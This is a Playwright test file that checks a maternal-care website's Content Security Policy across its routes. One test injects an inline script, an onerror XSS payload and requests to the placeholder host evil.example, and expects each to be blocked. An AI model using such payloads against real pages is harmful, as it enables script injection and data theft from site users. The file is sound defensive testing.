import type { BrowserContext, Page } from '@playwright/test';

import { MENU } from '#lib/menu.ts';
import { ALSO_DEEP, DEEP } from '#tests/support/deep.ts';
import { expect, test } from './fixtures.ts';
import { ANA } from './support/account.ts';
import { guideIsOpen } from './support/guide-page.ts';
import { islandsAreAwake } from './support/page-ready.ts';
import { openSession } from './support/session.ts';
import { ALL_WEEK_PAGES, GUIDE_PAGES, MAIN_PAGES } from './support/site-pages.ts';

/** Where a test collects in its browser what violated the policy. */
declare global {
  interface Window {
    policyViolations: string[];
  }
}

/** Of a template with other entries of the menu, and with no tool of their own. */
const PLAIN_GUIDES: readonly string[] = [
  '/labor-phases',
  '/emergency-signs',
  '/postpartum-care',
  '/contraceptives',
];

async function collectViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    window.policyViolations = [];
    addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, disposition }) => {
        window.policyViolations.push(`${effectiveDirective} ${blockedURI} ${disposition}`);
      },
    );
  });
}

const violations = (page: Page) => page.evaluate(() => window.policyViolations);

test.beforeEach(async ({ context }) => {
  await collectViolations(context);
});

test(
  'E03 A guest opens the routes under their policy, and nothing violates it',
  // A page of each template is opened by accessibility-matrix.desktop.test.ts, and a violation in the console fails any test.
  { tag: '@deep' },
  async ({ page }) => {
    test.slow();
    for (const path of [...MAIN_PAGES, ...GUIDE_PAGES, ...ALL_WEEK_PAGES.slice(0, 3)]) {
      const response = await page.goto(path);
      expect(response?.headers()['content-security-policy'], path).toContain("default-src 'none'");
      await islandsAreAwake(page);
      await page.evaluate(() => document.fonts.ready);
      expect(await violations(page), path).toEqual([]);
    }
  },
);

test(
  'E03 A premium user goes through the menu, opens tabs and folds, and nothing violates the policy',
  ALSO_DEEP,
  async ({ context, page }) => {
    test.slow();
    await openSession(context, ANA);
    await page.goto('/dashboard');
    for (const { href } of DEEP
      ? MENU
      : MENU.filter((entry) => !PLAIN_GUIDES.includes(entry.href))) {
      await page.getByRole('navigation').locator(`a[href="${href}"]`).first().click();
      await page.waitForURL(`**${href}`);
      await islandsAreAwake(page);
      if (GUIDE_PAGES.includes(href)) await guideIsOpen(page);
      for (const tab of await page.getByRole('tab').all())
        if (await tab.isVisible()) await tab.click();
      for (const fold of await page.locator('main summary').all())
        if (await fold.isVisible()) await fold.click();
      expect(await violations(page), href).toEqual([]);
    }
    for (const path of ['/account', '/subscriptions']) {
      await page.goto(path);
      await islandsAreAwake(page);
      await expect(page.locator('[aria-busy=true]').filter({ visible: true })).toHaveCount(0);
      expect(await violations(page), path).toEqual([]);
    }
  },
);

test('E03 What the policy forbids is refused, and counted as a violation', async ({
  page,
  expectConsole,
}) => {
  expectConsole(/Content Security Policy|Trusted|ERR_BLOCKED_BY_CSP|evil\.example/i);
  await page.goto('/terms');
  const outcomes = await page.evaluate(async () => {
    const attempt = (run: () => unknown) => {
      try {
        return String(run());
      } catch (error) {
        return (error as Error).name;
      }
    };
    const script = document.createElement('script');
    const inline = attempt(() => {
      script.textContent = 'window.pwned = true';
      document.head.append(script);
    });
    const markup = attempt(
      () => (document.body.innerHTML = '<img src=x onerror="window.pwned = true">'),
    );
    const call = await fetch('https://evil.example/').then(
      () => 'answered',
      () => 'refused',
    );
    const foreign = 'https://evil.example/x.js';
    const module = await import(foreign).then(
      () => 'run',
      () => 'refused',
    );
    document.head.append(
      Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }),
    );
    new Image().src = 'https://evil.example/x.png';
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    return { inline, markup, call, module };
  });
  expect(outcomes).toEqual({
    inline: 'TypeError',
    markup: 'TypeError',
    call: 'refused',
    module: 'refused',
  });
  const findDirectives = async () => {
    const found = (await violations(page)).map((violation) => violation.split(' ')[0]);
    return [...new Set(found)].toSorted();
  };
  await expect
    .poll(findDirectives)
    .toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-elem',
    ]);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});
